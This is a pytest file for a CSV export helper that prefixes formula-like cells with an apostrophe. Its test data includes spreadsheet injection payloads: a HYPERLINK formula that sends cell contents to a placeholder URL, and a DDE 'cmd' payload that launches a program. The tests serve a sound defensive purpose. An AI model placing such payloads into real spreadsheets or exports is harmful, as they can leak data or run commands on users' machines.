"""The one CSV writer: every text cell a spreadsheet would run as a formula is made text."""

import csv
import io
from decimal import Decimal

import pytest

from esafety.csv_export import csv_download, csv_lines


def read(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://x?"&A1, "Open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "\0"],
)
def test_it_puts_an_apostrophe_before_a_formula_in_any_column(typed):
    assert read(csv_lines([["plain", typed, typed]])) == [["plain", f"'{typed}", f"'{typed}"]]


def test_it_leaves_other_text_numbers_and_blanks_alone():
    rows = read(csv_lines([["Ada", " =not first", "a-b", 3, -4, 2.5, Decimal("-1.5"), None, ""]]))
    assert rows == [["Ada", " =not first", "a-b", "3", "-4", "2.5", "-1.5", "", ""]]


def test_it_neutralises_what_an_object_prints_as():
    class Title:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert read(csv_lines([[Title()]])) == [["'=cmd|' /C calc'!A0"]]


def test_it_streams_an_attachment_row_by_row():
    response = csv_download(iter([["Line", "Problem"], [2, "=bad"]]), filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.streaming
    assert read(s.decode() for s in response.streaming_content) == [
        ["Line", "Problem"],
        ["2", "'=bad"],
    ]
